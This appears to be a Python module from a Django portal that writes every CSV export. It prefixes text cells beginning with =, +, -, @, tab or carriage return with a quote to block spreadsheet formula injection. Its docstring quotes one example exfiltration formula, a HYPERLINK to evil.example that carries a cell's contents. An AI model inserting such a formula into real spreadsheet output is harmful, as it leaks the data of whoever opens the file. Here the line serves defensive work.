"""The one CSV writer of the portal, and the same defence for spreadsheet cells.

Names, line names and notes are typed by people outside the agency. A cell that starts with
= + - @ (or a tab or carriage return, which some spreadsheets skip before reading one of
those) is run as a formula when the file is opened in Excel or LibreOffice:
`=HYPERLINK("http://evil.example/?"&A1, "Click")` sends the sheet's data away. Following
OWASP's "CSV Injection" advice, such a cell is written with a single quote in front, which
spreadsheets show as text. Numbers, dates and None are written as they are: only text is typed
by people. tests/common/test_csv_injection.py fails on any `csv.writer` outside this module.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Excel, which finance teams open CSVs in, reads a CSV without a byte-order mark in the
# machine's ANSI code page: "Net (₹)" and a masked "+91••••20" come out as mojibake. A UTF-8
# BOM tells it the encoding, and other readers (Python's "utf-8-sig", LibreOffice) skip it.
# Files for people get it; a bank's upload file never does (its parser reads the first byte
# as data).
BOM = "\ufeff"


def neutralise(value: Any) -> Any:
    """`value`, with a quote before it if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def neutralised(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class _Echo:
    """A file-like object whose write() returns the line: csv.writer then yields strings."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    header: list[str] | None, rows: Iterable[Iterable[Any]], *, bom: bool = False
) -> Iterator[str]:
    """The CSV file, line by line (for StreamingHttpResponse): every text cell neutralised;
    with `bom`, a UTF-8 byte-order mark first (a file people open in a spreadsheet)."""
    writer = csv.writer(_Echo())
    if bom:
        yield BOM
    if header is not None:
        yield writer.writerow(neutralised(header))
    for row in rows:
        yield writer.writerow(neutralised(row))


def csv_response(
    header: list[str], rows: Iterable[Iterable[Any]], *, filename: str
) -> StreamingHttpResponse:
    """A CSV download for people: streamed, UTF-8 said twice (the charset and the BOM)."""
    response = StreamingHttpResponse(
        csv_lines(header, rows, bom=True), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "private, no-store"  # people's data: no cache keeps a copy
    return response
